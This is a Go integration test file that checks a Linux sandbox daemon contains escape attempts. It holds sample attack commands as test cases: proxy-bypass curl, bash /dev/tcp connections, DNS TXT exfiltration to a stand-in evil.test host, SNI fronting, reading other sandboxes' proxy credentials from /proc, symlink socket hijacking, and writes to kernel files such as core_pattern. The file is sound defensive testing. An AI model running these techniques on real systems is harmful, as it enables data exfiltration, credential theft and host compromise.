//go:build linux

package integration

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/barry-rocks/sandbox/internal/testenv"
	"golang.org/x/sys/unix"
)

// TestEscapes: every attempt to reach the world around the proxy stays
// contained, as root and as uid 65534; the world's servers see nothing.
func TestEscapes(t *testing.T) {
	w := newWorld(t)
	for _, c := range escapeClients {
		testenv.NeedCommand(t, c)
	}
	e := newEscapeTargets(t, w)
	for _, u := range users {
		for _, c := range e.cases() {
			t.Run(u.name+"/"+c.name, func(t *testing.T) {
				c.check(t, w.sandboxd(t, runOpts{uid: u.uid, argv: c.argv, flags: escapeFlags}))
			})
		}
	}
	e.checkWorld(t)
}

// escapeClients are the programs the escape cases run inside.
var escapeClients = []string{"curl", "python3", "bash", "dig"}

// escapeFlags are sandboxd's flags (beyond the world's) for the escape cases.
var escapeFlags = []string{"--deny-domain", "denied.test", "--allow-domain", "hostaddr.test"}

// escapeTargets are what the escape cases try to reach besides the world's
// servers: a host pathname socket and a host abstract socket, both
// listening in the namespace sandboxd runs in, and a TCP server on the host
// namespace's own address.
type escapeTargets struct {
	w                  *world
	hostSock, abstract string
	reached            chan string
}

func newEscapeTargets(t *testing.T, w *world) *escapeTargets {
	t.Helper()
	e := &escapeTargets{w: w, reached: make(chan string, 8)}
	e.hostSock = filepath.Join(sharedDir(t), "host.sock")
	pln, err := net.Listen("unix", e.hostSock)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { pln.Close() })
	os.Chmod(e.hostSock, 0o777)
	e.abstract = fmt.Sprintf("barry-escape-%d", rand.Int64())
	aln := w.host.Listen(t, "unix", "@"+e.abstract)
	t.Cleanup(func() { aln.Close() })
	own := w.host.Listen(t, "tcp", hostOwnAddr+":80")
	t.Cleanup(func() { own.Close() })
	for _, l := range []net.Listener{pln, aln, own} {
		go func(l net.Listener) {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				e.reached <- l.Addr().String()
				c.Close()
			}
		}(l)
	}
	return e
}

// escapeCase is one attempt, run with escapeFlags; stdout must contain want
// and never ESCAPED.
type escapeCase struct {
	name string
	argv []string
	want string
}

func (c escapeCase) check(t *testing.T, r runResult) {
	t.Helper()
	if !strings.Contains(r.stdout, c.want) || strings.Contains(r.stdout, "ESCAPED") {
		t.Fatalf("exit %d\nstdout %q (want %q)\nstderr %q\naudit %s", r.code, r.stdout, c.want, r.stderr, r.audit)
	}
}

// pyConnectScript connects (tcp) or sends (udp) to an address: python3
// -c SCRIPT 4|6 tcp|udp ADDR PORT; it prints "closed ..." when a TCP
// connection was taken and closed, "refused ERRNO" when the kernel
// refused, ESCAPED when something answered or a datagram left.
const pyConnectScript = `
import socket, sys
fam = {"4": socket.AF_INET, "6": socket.AF_INET6}[sys.argv[1]]
kind = {"tcp": socket.SOCK_STREAM, "udp": socket.SOCK_DGRAM}[sys.argv[2]]
s = socket.socket(fam, kind)
s.settimeout(5)
try:
    if kind == socket.SOCK_STREAM:
        # The capture takes the connection; the proxy refuses it (the
        # world's echo server would send ESCAPED back).
        s.connect((sys.argv[3], int(sys.argv[4])))
        s.sendall(b"ESCAPED\n")
        print("closed", s.recv(100))
    else:
        s.sendto(b"exfil", (sys.argv[3], int(sys.argv[4])))
        print("ESCAPED")
except OSError as e:
    print("refused", e.errno)
`

func (e *escapeTargets) cases() []escapeCase {
	pyConnect := pyConnectScript
	pyUnix := fmt.Sprintf(`
import socket
for name, addr in (("pathname", %q), ("abstract", "\0" + %q)):
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(addr)
        print(name, "ESCAPED")
    except OSError as e:
        print(name, "refused", e.errno)
`, e.hostSock, e.abstract)
	pyFronted := `
import os, socket, ssl, base64, urllib.parse
u = urllib.parse.urlparse(os.environ["HTTPS_PROXY"])
s = socket.create_connection(("127.0.0.1", u.port), timeout=10)
auth = base64.b64encode(f"{u.username}:{u.password}".encode()).decode()
s.sendall(f"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\nProxy-Authorization: Basic {auth}\r\n\r\n".encode())
print(s.recv(4096).split(b"\r\n")[0].decode())
ctx = ssl.create_default_context()
try:
    t = ctx.wrap_socket(s, server_hostname="denied.test")
    t.sendall(b"GET /fronted HTTP/1.1\r\nHost: denied.test\r\n\r\n")
    print("ESCAPED", t.recv(4096)[:60])
except OSError as e:
    print("refused", type(e).__name__)
`
	return []escapeCase{
		{"curl noproxy tcp", []string{"sh", "-c", "curl -sS --noproxy '*' --max-time 5 http://" + webAddr + ":" + udpEchoPort + "/ ; echo code=$?"}, "not in allowlist: " + webAddr + "\ncode=0"},
		{"bash dev tcp", []string{"bash", "-c", "exec 3<>/dev/tcp/" + webAddr + "/" + udpEchoPort + " && echo ESCAPED >&3 && timeout 10 cat <&3; echo closed"}, "closed"},
		{"python tcp", []string{"python3", "-c", pyConnect, "4", "tcp", webAddr, udpEchoPort}, "closed b''"},
		{"python udp", []string{"python3", "-c", pyConnect, "4", "udp", webAddr, udpEchoPort}, "refused 1\n"},
		{"ipv6 curl", []string{"sh", "-c", "curl -sS -g --noproxy '*' --max-time 5 'http://[" + web6Addr + "]/' ; echo code=$?"}, "not in allowlist: " + web6Addr + "\ncode=0"},
		{"ipv6 python", []string{"python3", "-c", pyConnect, "6", "tcp", web6Addr, "80"}, "closed b''"},
		{"dns direct to the world resolver", []string{"sh", "-c", "dig +tries=1 +time=2 @" + dnsAddr + " direct.denied.test A; echo code=$?"}, "code=9"},
		{"dns denied name", []string{"dig", "+tries=1", "+time=5", "@127.0.0.1", "secret-data.denied.test", "A"}, "status: REFUSED"},
		{"dns txt exfiltration", []string{"dig", "+tries=1", "+time=5", "@127.0.0.1", "c2VjcmV0.exfil.evil.test", "TXT"}, "status: REFUSED"},
		{"dns via resolv.conf", []string{"sh", "-c", "getent hosts denied.test || echo refused"}, "refused"},
		{"allowed name resolving to loopback", []string{"curl", "-sS", "--max-time", "10", "-w", "\n%{http_code}", "http://rebind.test/"}, "403"},
		{"allowed name resolving to the host's own address", []string{"curl", "-sS", "--max-time", "10", "-w", "\n%{http_code}", "http://hostaddr.test/"}, "403"},
		{"connect with a fronted SNI", []string{"python3", "-c", pyFronted}, "refused"},
		{"script written to disk", []string{"sh", "-c", "printf '#!/bin/sh\\ncurl -sS --noproxy \"*\" --max-time 5 http://" + webAddr + ":" + udpEchoPort + "/\\n' > ./x.sh && chmod +x x.sh && ./x.sh; echo code=$?"}, "not in allowlist: " + webAddr + "\ncode=0"},
		{"host unix sockets", []string{"python3", "-c", pyUnix}, "pathname refused 1\nabstract refused 1\n"},
	}
}

// checkWorld fails the test if the world's servers saw anything but
// requests for allowed.test, or a host socket was reached.
func (e *escapeTargets) checkWorld(t *testing.T) {
	t.Helper()
	dnsSeen, httpSeen, tcp, udp := e.w.seen()
	for _, q := range dnsSeen {
		if strings.Contains(q, "denied.test") || strings.Contains(q, "evil.test") {
			t.Errorf("the world's DNS server saw a denied query: %s", q)
		}
	}
	for _, h := range httpSeen {
		if !strings.HasPrefix(h, "allowed.test") {
			t.Errorf("the world's web server saw %q", h)
		}
	}
	if tcp != 0 || udp != 0 {
		t.Errorf("the world's raw TCP/UDP port saw %d connections and %d datagrams", tcp, udp)
	}
	select {
	case a := <-e.reached:
		t.Errorf("host socket %s was reached", a)
	default:
	}
}

func waitGone(t *testing.T, marker string) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for time.Now().Before(deadline) {
		if len(testenv.HostPIDsWithArg(marker)) == 0 {
			return
		}
		time.Sleep(20 * time.Millisecond)
	}
	t.Fatalf("processes with %q survived: %v", marker, testenv.HostPIDsWithArg(marker))
}

// TestProcessTreeContainment: a double-forked setsid process is gone once
// sandboxd exits; the whole sandbox dies when sandboxd is killed.
func TestProcessTreeContainment(t *testing.T) {
	w := newWorld(t)
	for _, u := range users {
		t.Run(u.name+"/setsid double fork", func(t *testing.T) {
			marker := strconv.Itoa(910000 + rand.IntN(80000))
			script := `(setsid sh -c 'sleep ` + marker + ` & sleep ` + marker + `' &); count() { for f in /proc/[0-9]*/cmdline; do [ "$(tr '\0' ' ' < $f 2>/dev/null)" = "sleep ` + marker + ` " ] && echo x; done | wc -l; }; ` +
				`n=0; while [ "$(count)" -lt 2 ] && [ $n -lt 100 ]; do sleep 0.05; n=$((n+1)); done; count`
			r := w.sandboxd(t, runOpts{uid: u.uid, argv: []string{"sh", "-c", script}})
			if strings.TrimSpace(r.stdout) != "2" || r.code != 0 {
				t.Fatalf("want 2 background sleeps running inside; exit %d, out %q, err %q", r.code, r.stdout, r.stderr)
			}
			if pids := testenv.HostPIDsWithArg(marker); len(pids) != 0 {
				t.Fatalf("survivors after sandboxd exited: %v", pids)
			}
		})
		t.Run(u.name+"/sandboxd killed", func(t *testing.T) {
			marker := strconv.Itoa(910000 + rand.IntN(80000))
			args := []string{"netns", "exec", w.host.Name}
			if u.uid != 0 {
				args = append(args, "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--")
			}
			args = append(args, sandboxdBin, "run", "--", "sh", "-c", "sleep "+marker+" & echo started; wait")
			cmd := exec.Command("ip", args...)
			cmd.Dir = sharedDir(t)
			out, _ := cmd.StdoutPipe()
			cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
			if err := cmd.Start(); err != nil {
				t.Fatal(err)
			}
			line, _ := bufio.NewReader(out).ReadString('\n')
			for i := 0; i < 100 && len(testenv.HostPIDsWithArg(marker)) == 0; i++ {
				time.Sleep(10 * time.Millisecond)
			}
			if line != "started\n" || len(testenv.HostPIDsWithArg(marker)) != 1 {
				t.Fatalf("sandbox did not start: %q %v", line, testenv.HostPIDsWithArg(marker))
			}
			cmd.Process.Signal(syscall.SIGKILL)
			cmd.Wait()
			waitGone(t, marker)
		})
	}
}

// TestOtherSandboxCredentials: a second sandbox can neither read the first
// one's proxy credentials nor use them.
func TestOtherSandboxCredentials(t *testing.T) {
	w := newWorld(t)
	for _, u := range users {
		t.Run(u.name, func(t *testing.T) {
			args := []string{"netns", "exec", w.host.Name}
			if u.uid != 0 {
				args = append(args, "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--")
			}
			args = append(args, sandboxdBin, "run", "--", "sh", "-c", `echo "$HTTPS_PROXY"; exec sleep 60`)
			ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
			defer cancel()
			a := exec.CommandContext(ctx, "ip", args...)
			a.Dir = sharedDir(t)
			a.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
			var aErr bytes.Buffer
			a.Stderr = &aErr
			out, _ := a.StdoutPipe()
			if err := a.Start(); err != nil {
				t.Fatal(err)
			}
			defer func() { a.Process.Kill(); a.Wait() }()
			aURL, _ := bufio.NewReader(out).ReadString('\n')
			aURL = strings.TrimSpace(aURL)
			_, secret, ok := strings.Cut(strings.TrimPrefix(aURL, "http://"), ":")
			secret, _, _ = strings.Cut(secret, "@")
			if !ok || len(secret) < 32 {
				a.Process.Kill()
				a.Wait()
				t.Fatalf("sandbox A's proxy URL %q (stderr %s)", aURL, aErr.String())
			}
			script := `cat /proc/[0-9]*/environ 2>&1 | tr '\0' '\n' | grep -i proxy; ls -la /tmp/sandboxd-* /run/sandboxd-* 2>&1; ` +
				`curl -sS --max-time 10 -o /dev/null -w '%{http_code}\n' -x '` + aURL + `' http://allowed.test/`
			r := w.sandboxd(t, runOpts{uid: u.uid, argv: []string{"sh", "-c", script}})
			// B was handed A's URL in its argv (to try it below); nothing
			// B could read (environments under /proc, runtime
			// directories) may show A's secret.
			lines := strings.Split(strings.TrimSpace(r.stdout), "\n")
			for _, line := range lines[:len(lines)-1] {
				if strings.Contains(line, secret) {
					t.Fatalf("sandbox B read A's credentials: %q", line)
				}
			}
			if !strings.Contains(r.stdout, "HTTPS_PROXY=") {
				t.Fatalf("sandbox B's probe read no environment at all:\n%s", r.stdout)
			}
			if last := lines[len(lines)-1]; last == "200" {
				t.Fatalf("sandbox B used A's credentials successfully:\n%s", r.stdout)
			}
		})
	}
}

// TestKernelStateReadOnly: the sandbox cannot change the host kernel's
// global state through /proc/sys or /sys. As root, the sandbox's uid 0 is
// the host's uid 0 (without capabilities), and sysctl and sysfs writes are
// checked only against the file's owner: kernel.core_pattern = "|prog"
// would run prog as host root outside every namespace on the next crash,
// /sys/kernel/uevent_helper likewise on the next uevent, /sys/power/state
// suspends the machine. Each file is only opened for writing, never
// written, and the host (the test, as root) must be able to open it, so the
// test cannot pass by finding nothing to try.
func TestKernelStateReadOnly(t *testing.T) {
	w := newWorld(t)
	candidates := []string{
		"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/vm/drop_caches",
		"/proc/sys/kernel/sysrq", "/proc/sysrq-trigger",
		"/sys/kernel/uevent_helper", "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/power/state",
		"/sys/module/printk/parameters/time",
	}
	var files []string
	var procSys, sys bool
	for _, f := range candidates {
		h, err := os.OpenFile(f, os.O_WRONLY, 0)
		if err != nil {
			continue
		}
		h.Close()
		files = append(files, f)
		procSys = procSys || strings.HasPrefix(f, "/proc/")
		sys = sys || strings.HasPrefix(f, "/sys/")
	}
	if !procSys || !sys {
		t.Fatalf("the host has no writable file to try under /proc and /sys (have %v)", files)
	}
	script := `for f in "$@"; do if ( exec 3>>"$f" ) 2>/dev/null; then echo "WRITABLE $f"; else echo "refused $f"; fi; done`
	for _, u := range users {
		t.Run(u.name, func(t *testing.T) {
			r := w.sandboxd(t, runOpts{uid: u.uid, argv: append([]string{"sh", "-c", script, "sh"}, files...)})
			if r.code != 0 || strings.Contains(r.stdout, "WRITABLE") || strings.Count(r.stdout, "refused ") != len(files) {
				t.Fatalf("exit %d\nstdout %s\nstderr %s", r.code, r.stdout, r.stderr)
			}
		})
	}
}

// TestResolverFilesReadOnly: the host files the proxy's resolver reads
// (/etc/hosts, /etc/nsswitch.conf) cannot be opened for writing inside, as
// root or as 65534. Opening for append writes nothing, so the host's files
// are never changed.
func TestResolverFilesReadOnly(t *testing.T) {
	w := newWorld(t)
	var files []string
	for _, f := range []string{"/etc/hosts", "/etc/nsswitch.conf"} {
		if h, err := os.OpenFile(f, os.O_WRONLY|os.O_APPEND, 0); err == nil {
			h.Close()
			files = append(files, f)
		}
	}
	if len(files) != 2 {
		t.Fatalf("the test, as root, should be able to open both files for writing outside (have %v)", files)
	}
	script := `for f in "$@"; do if ( exec 3>>"$f" ) 2>/dev/null; then echo "WRITABLE $f"; else echo "refused $f"; fi; done`
	for _, u := range users {
		t.Run(u.name, func(t *testing.T) {
			r := w.sandboxd(t, runOpts{uid: u.uid, argv: append([]string{"sh", "-c", script, "sh"}, files...)})
			if r.code != 0 || strings.Contains(r.stdout, "WRITABLE") || strings.Count(r.stdout, "refused ") != len(files) {
				t.Fatalf("exit %d\nstdout %s\nstderr %s", r.code, r.stdout, r.stderr)
			}
		})
	}
}

// TestHostnameAnsweredInside: the sandbox's hostname resolves inside, from
// its /etc/hosts (the host's entries and the hostname at 127.0.1.1), as
// root and as 65534: python3's getaddrinfo(gethostname()) gets 127.0.1.1
// and no DNS query for it reaches the proxy. Before, the lookup failed
// ("Temporary failure in name resolution") and the audit had a denied
// line for each query (git with no identity made four a session).
func TestHostnameAnsweredInside(t *testing.T) {
	w := newWorld(t)
	testenv.NeedCommand(t, "python3")
	script := `python3 -c 'import socket; print("addr", socket.getaddrinfo(socket.gethostname(), None)[0][4][0])'`
	for _, u := range users {
		t.Run(u.name, func(t *testing.T) {
			r := w.sandboxd(t, runOpts{uid: u.uid, argv: []string{"sh", "-c", script}})
			if r.code != 0 || r.stdout != "addr 127.0.1.1\n" {
				t.Fatalf("exit %d\nstdout %s\nstderr %s", r.code, r.stdout, r.stderr)
			}
			if strings.Contains(r.audit, `"host":"sandbox"`) {
				t.Errorf("a DNS query for the sandbox's hostname reached the proxy:\n%s", r.audit)
			}
		})
	}
}

// TestHostsFileRedirect: a sandbox started by root cannot point an allowed
// name at another address through the host's /etc/hosts, which the proxy's
// resolver (outside the sandbox) reads. Without that, "allowed.test" would
// lead to any address the agent chose. sandboxd runs in a private mount
// namespace where /etc/hosts is a scratch copy, so the host's own file is
// never touched.
func TestHostsFileRedirect(t *testing.T) {
	w := newWorld(t)
	testenv.NeedCommand(t, "curl")
	testenv.NeedCommand(t, "unshare")
	const elsewhere = "192.0.2.77" // inside the range the test opens, like any address would be
	sh(t, "ip", "-n", w.world.Name, "addr", "add", elsewhere+"/32", "dev", "lo")
	ln := w.world.Listen(t, "tcp", elsewhere+":80")
	defer ln.Close()
	reached := make(chan struct{}, 1)
	testenv.Serve(t, ln, func(net.Conn) {
		select {
		case reached <- struct{}{}:
		default:
		}
	})
	hosts := filepath.Join(sharedDir(t), "hosts")
	if err := os.WriteFile(hosts, []byte("127.0.0.1 localhost\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	wrap := []string{"unshare", "-m", "--propagation", "private", "sh", "-c", `mount --bind "$0" /etc/hosts && exec "$@"`, hosts}
	script := `echo "` + elsewhere + ` allowed.test" >> /etc/hosts && echo "WROTE hosts"; curl -sS --max-time 10 http://allowed.test/; echo; echo code=$?`
	r := w.sandboxd(t, runOpts{argv: []string{"sh", "-c", script}, wrap: wrap})
	b, _ := os.ReadFile(hosts)
	select {
	case <-reached:
		t.Fatalf("the proxy connected allowed.test to %s from the sandbox's /etc/hosts entry\nstdout %s\nstderr %s", elsewhere, r.stdout, r.stderr)
	default:
	}
	if strings.Contains(r.stdout, "WROTE") || strings.Contains(string(b), elsewhere) || !strings.Contains(r.stdout, "hello from allowed.test") {
		t.Fatalf("exit %d\nstdout %s\nstderr %s\nhosts file now %q", r.code, r.stdout, r.stderr, b)
	}
}

// TestOtherSandboxForwardTarget: a sandbox cannot redirect another
// sandbox's forwarders. Sandbox A's runtime directory is read-only inside A
// only; sandbox B (same user) can replace A's proxy.sock with a symlink to
// any host Unix socket. A's forwarder must still reach A's own proxy, never
// the host socket (Docker's would be root on the host).
func TestOtherSandboxForwardTarget(t *testing.T) {
	w := newWorld(t)
	testenv.NeedCommand(t, "curl")
	for _, u := range users {
		t.Run(u.name, func(t *testing.T) {
			hostSock := filepath.Join(sharedDir(t), "service.sock")
			ln, err := net.Listen("unix", hostSock)
			if err != nil {
				t.Fatal(err)
			}
			defer ln.Close()
			os.Chmod(hostSock, 0o777)
			reached := make(chan struct{}, 1)
			testenv.Serve(t, ln, func(c net.Conn) {
				select {
				case reached <- struct{}{}:
				default:
				}
				c.Write([]byte("HTTP/1.0 200 OK\r\n\r\nHOST SERVICE\n"))
			})

			args := []string{"netns", "exec", w.host.Name}
			if u.uid != 0 {
				args = append(args, "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--")
			}
			args = append(args, sandboxdBin, "run", "--dns-upstream", dnsAddr+":53",
				"--allow-private", "192.0.2.0/24", "--allow-domain", "allowed.test", "--",
				"sh", "-c", `echo "$BARRY_SANDBOX_ID"; read go; curl -sS --max-time 10 http://allowed.test/; echo; echo code=$?`)
			ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
			defer cancel()
			a := exec.CommandContext(ctx, "ip", args...)
			a.Dir = sharedDir(t)
			a.Env = []string{"PATH=/usr/local/bin:/usr/bin:/bin", "HOME=" + a.Dir, "LANG=C"}
			a.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
			in, _ := a.StdinPipe()
			outPipe, _ := a.StdoutPipe()
			if err := a.Start(); err != nil {
				t.Fatal(err)
			}
			defer func() { a.Process.Kill(); a.Wait() }()
			out := bufio.NewReader(outPipe)
			id, _ := out.ReadString('\n')
			id = strings.TrimSpace(id)
			if !strings.HasPrefix(id, "sandboxd-") || strings.ContainsAny(id, "/ *?") {
				t.Fatalf("sandbox A's id %q", id)
			}
			// B replaces exactly A's proxy socket (found by A's id under
			// the runtime bases of both users), nothing else.
			script := `for d in /run/"$1" /tmp/"$1"; do [ -S "$d/proxy.sock" ] || continue; rm -f "$d/proxy.sock" && ln -s "$2" "$d/proxy.sock" && echo "replaced $d/proxy.sock"; done`
			// First lock: B's filesystem is read-only there (root) or does
			// not show it at all (a private /tmp, for 65534).
			r := w.sandboxd(t, runOpts{uid: u.uid, argv: []string{"sh", "-c", script, "sh", id, hostSock}})
			if strings.Contains(r.stdout, "replaced") {
				t.Fatalf("sandbox B replaced A's socket through the filesystem layer:\n%s", r.stdout)
			}
			// Second lock: B given the runtime base as a write root does
			// replace it, and A's forwarder still reaches only its own.
			base := "/run"
			if u.uid != 0 {
				base = "/tmp"
			}
			r = w.sandboxd(t, runOpts{uid: u.uid, flags: []string{"--write", base}, argv: []string{"sh", "-c", script, "sh", id, hostSock}})
			if !strings.Contains(r.stdout, "replaced") {
				t.Fatalf("sandbox B could not replace A's socket (the test needs it to):\nstdout %s\nstderr %s", r.stdout, r.stderr)
			}
			in.Write([]byte("go\n"))
			rest, _ := io.ReadAll(out)
			select {
			case <-reached:
				t.Fatalf("sandbox A's forwarder relayed to the host socket B linked in:\n%s", rest)
			default:
			}
			if !strings.Contains(string(rest), "hello from allowed.test") {
				t.Fatalf("sandbox A no longer reached its own proxy:\n%s", rest)
			}
		})
	}
}

// TestPrivateDev: the sandbox's /dev is its own, not the host's. A pty the
// test opens on the host (mode 0666, so that both users can open it from
// outside, which the test checks) is neither listed nor openable inside;
// the block devices and /dev/kmsg are not there at all; the basic nodes
// work, and a new pty can be opened inside (script) in its own devpts.
func TestPrivateDev(t *testing.T) {
	testenv.NeedCommand(t, "script")
	w := newWorld(t)
	ptmx, err := os.OpenFile("/dev/ptmx", os.O_RDWR|syscall.O_NOCTTY, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer ptmx.Close()
	if err := unix.IoctlSetPointerInt(int(ptmx.Fd()), unix.TIOCSPTLCK, 0); err != nil {
		t.Fatal(err)
	}
	n, err := unix.IoctlGetInt(int(ptmx.Fd()), unix.TIOCGPTN)
	if err != nil {
		t.Fatal(err)
	}
	hostPty := fmt.Sprintf("/dev/pts/%d", n)
	if err := os.Chmod(hostPty, 0o666); err != nil {
		t.Fatal(err)
	}
	try := `if ( exec 3<>"$1" ) 2>/dev/null; then echo "OPENED $1"; else echo "refused $1"; fi`
	script := `export LC_ALL=C
echo "dev: $(ls -A /dev | tr '\n' ' ')"
echo "pts: $(ls -A /dev/pts | tr '\n' ' ')"
` + try + `
head -c 8 /dev/zero | od -An -tx1 | tr -d ' \n'; echo " zero"
echo "urandom $(head -c 16 /dev/urandom | wc -c)"
echo discarded >/dev/null && echo "null ok"
if echo x >/dev/full 2>/dev/null; then echo "full wrote"; else echo "full ENOSPC"; fi
echo "inner pty: $(script -qc tty /dev/null | tr -d '\r')"
touch /dev/shm/x && echo "shm ok"
echo "fd: $(readlink /dev/fd) $(readlink /dev/stdin) $(readlink /dev/stdout) $(readlink /dev/stderr)"
echo "stdin: $(echo piped | cat /dev/stdin)"
`
	const wantDev = "dev: fd full null ptmx pts random shm stderr stdin stdout tty urandom zero \n"
	for _, u := range users {
		t.Run(u.name, func(t *testing.T) {
			// Outside, the same user can open the host's pty: the hole.
			out, err := exec.Command("setpriv", fmt.Sprintf("--reuid=%d", u.uid), fmt.Sprintf("--regid=%d", u.uid),
				"--clear-groups", "--", "sh", "-c", try, "sh", hostPty).CombinedOutput()
			if err != nil || string(out) != "OPENED "+hostPty+"\n" {
				t.Fatalf("outside the sandbox, uid %d could not open %s (%v): %s", u.uid, hostPty, err, out)
			}
			r := w.sandboxd(t, runOpts{uid: u.uid, argv: []string{"sh", "-c", script, "sh", hostPty}})
			for _, want := range []string{
				wantDev, "pts: ptmx \n", "refused " + hostPty + "\n", "0000000000000000 zero\n", "urandom 16\n",
				"null ok\n", "full ENOSPC\n", "inner pty: /dev/pts/0\n", "shm ok\n",
				"fd: /proc/self/fd /proc/self/fd/0 /proc/self/fd/1 /proc/self/fd/2\n", "stdin: piped\n",
			} {
				if !strings.Contains(r.stdout, want) {
					t.Errorf("missing %q", want)
				}
			}
			if r.code != 0 || t.Failed() {
				t.Fatalf("exit %d\nstdout %s\nstderr %s", r.code, r.stdout, r.stderr)
			}
		})
	}
}
